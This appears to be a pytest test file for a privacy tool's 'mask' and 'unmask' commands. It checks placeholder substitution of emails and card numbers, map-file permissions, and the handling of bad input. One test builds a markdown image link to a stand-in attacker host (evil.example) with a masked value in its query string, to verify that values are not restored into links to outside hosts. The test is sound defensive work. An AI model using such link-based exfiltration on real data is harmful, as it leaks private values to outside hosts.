"""`shoal mask` and `shoal unmask`: a text goes out and comes back, and nothing is written that was not asked for."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.unit.cli.conftest import Said, Shell

PATTERNS = '[trust.masking]\ntier = "patterns"\n'
MAIL, CARD = "jane@example.org", "4111 1111 1111 1111"
TEXT = f"Write to {MAIL},\r\n\tcard {CARD}; again {MAIL}\n"


@pytest.fixture
def patterns(shell: Shell) -> Shell:
    """A shell whose settings need no weights."""
    shell.write("shoal.toml", PATTERNS)
    shell.write("text", TEXT)
    (shell.home / "text").write_bytes(TEXT.encode())
    return shell


def piped(shell: Shell, monkeypatch: pytest.MonkeyPatch, text: bytes, *words: str) -> Said:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(text)))
    return shell(*words)


def test_the_text_goes_out_and_the_table_beside_it(patterns: Shell) -> None:
    said = patterns("mask", "text")
    assert said.code == 0, said.err
    assert MAIL not in said.out + said.err
    assert CARD not in said.out + said.err
    assert said.out.startswith("Write to <EMAIL_ADDRESS_")
    assert "CREDIT_CARD\t1\t1\n" in said.err
    assert "EMAIL_ADDRESS\t2\t1\n" in said.err
    assert "nobody can put these values back" in said.err
    assert {each.name for each in patterns.home.iterdir()} == {"shoal.toml", "text"}


def test_there_and_back(patterns: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    out = patterns("mask", "text", "--map", "map.json").out
    back = piped(patterns, monkeypatch, out.encode(), "unmask", "--map", "map.json")
    assert back.out == TEXT
    assert "3 values put back" in back.err


@pytest.mark.skipif(os.name != "posix", reason="modes of files are POSIX's")
def test_the_map_is_for_its_owner_alone(patterns: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    out = patterns("mask", "text", "--map", "map.json").out
    path = patterns.home / "map.json"
    assert path.stat().st_mode & 0o777 == 0o600
    path.chmod(0o640)
    said = piped(patterns, monkeypatch, out.encode(), "unmask", "--map", "map.json")
    assert (said.code, said.out) == (1, "")
    assert "run 'chmod 600 map.json' first" in said.err


def test_no_map_is_overwritten(patterns: Shell) -> None:
    patterns.write("map.json", "mine")
    said = patterns("mask", "text", "--map", "map.json")
    assert (said.code, said.out) == (2, "")
    assert (patterns.home / "map.json").read_text() == "mine"


def test_a_map_that_cannot_be_written_leaves_no_text(patterns: Shell) -> None:
    said = patterns("mask", "text", "--map", "nowhere/map.json")
    assert (said.code, said.out) == (1, "")
    assert "name another file" in said.err


@pytest.mark.parametrize("held", ["", "[]", "{", '{"version": 9}', '{"version": 1, "placeholders": 5}', "\ud800"])
def test_what_is_no_map_is_said(patterns: Shell, held: str) -> None:
    path = patterns.home / "map.json"
    path.write_bytes(held.encode("utf-8", "surrogatepass"))
    path.chmod(0o600)
    said = patterns("unmask", "text", "--map", "map.json")
    assert (said.code, said.out) == (1, "")
    assert "--map" in said.err
    assert patterns("unmask", "text", "--map", "absent").code == 1


def test_links_do_not_carry_values_back_unless_their_host_may(patterns: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    placeholder = patterns("mask", "text", "--map", "map.json").out.split()[2].rstrip(",")
    link = f"![x](https://evil.example/?q={placeholder})".encode()
    said = piped(patterns, monkeypatch, link, "unmask", "--map", "map.json")
    assert said.out.encode() == link
    assert "1 left in links" in said.err
    patterns.write("shoal.toml", PATTERNS + 'url_hosts = ["evil.example"]\n')
    assert "jane" in piped(patterns, monkeypatch, link, "unmask", "--map", "map.json").out


def test_json_tells_places_and_counts(patterns: Shell) -> None:
    told = patterns("mask", "text", "--json").json()
    assert told["counts"] == {"CREDIT_CARD": 1, "EMAIL_ADDRESS": 2}
    assert [TEXT[each["start"] : each["end"]] for each in told["entities"]] == [MAIL, CARD, MAIL]
    assert told["map"] is None
    made = patterns("mask", "text", "--json", "--map", "map.json").json()
    patterns.write("masked", made["text"])
    back = patterns("unmask", "masked", "--map", "map.json", "--json").json()
    assert (back["text"], back["restored"]) == (TEXT, 3)


def test_a_record_is_masked_field_by_field(patterns: Shell) -> None:
    patterns.write("shoal.toml", PATTERNS + '[trust.masking.fields]\n"$..name" = "PERSON"\n')
    patterns.write("record.json", '{"name": "Jo", "n": 3}')
    out = patterns("mask", "record.json").out
    assert json.loads(out)["name"].startswith("<PERSON_")
    assert json.loads(out)["n"] == 3


def test_a_tenant_has_its_own_rules_and_observe_does_not_count(patterns: Shell) -> None:
    own = '[trust.tenants.north.masking]\ntypes = { EMAIL_ADDRESS = "off" }\n'
    patterns.write("shoal.toml", '[trust]\nmode = "observe"\n' + PATTERNS + own)
    assert MAIL not in patterns("mask", "text").out
    north = patterns("mask", "text", "--tenant", "north").out
    assert MAIL in north
    assert CARD not in north


def test_where_nothing_is_masked_no_text_comes_out(patterns: Shell) -> None:
    patterns.write("shoal.toml", PATTERNS + 'mode = "observe"\n')
    said = patterns("mask", "text")
    assert (said.code, said.out) == (4, "")
    assert "switched off" in said.err


def test_nothing_found_is_said(patterns: Shell) -> None:
    patterns.write("text", "hello\n")
    said = patterns("mask", "text")
    assert said.out == "hello\n"
    assert "nothing was found" in said.err


@pytest.mark.parametrize(
    ("words", "fix"),
    [(["mask", "absent"], "cannot be read"), (["mask", "text", "--tier", "slow"], "choose patterns, fast, full")],
)
def test_wrong_usage_is_said(patterns: Shell, words: list[str], fix: str) -> None:
    said = patterns(*words)
    assert (said.code, said.out) == (2, "")
    assert fix in " ".join(said.err.split())


def test_text_that_is_not_utf_8_is_wrong_usage(patterns: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    said = piped(patterns, monkeypatch, b"caf\xe9", "mask")
    assert (said.code, said.out) == (2, "")
    assert "not UTF-8" in said.err


def test_the_root_key_makes_the_placeholders_of_a_tenant_the_same(patterns: Shell) -> None:
    patterns.write("shoal.toml", '[trust]\nroot_key = "file:key"\n' + PATTERNS + 'scope = "tenant"\n')
    patterns.write("key", "k" * 40)
    assert patterns("mask", "text").out == patterns("mask", "text").out
    patterns.write("shoal.toml", PATTERNS + 'scope = "tenant"\n')
    assert patterns("mask", "text").out != patterns("mask", "text").out
    assert not patterns.data.exists()


def test_both_at_once_in_a_pipe(patterns: Shell) -> None:
    shoal = f"'{sys.executable}' -c 'from shoal.cli import main; main()'"
    line = f"{shoal} mask --map map.json < text | {shoal} unmask --map map.json"
    done = subprocess.run(["sh", "-c", line], cwd=Path.cwd(), capture_output=True, timeout=300, check=True)
    assert done.stdout == TEXT.encode()
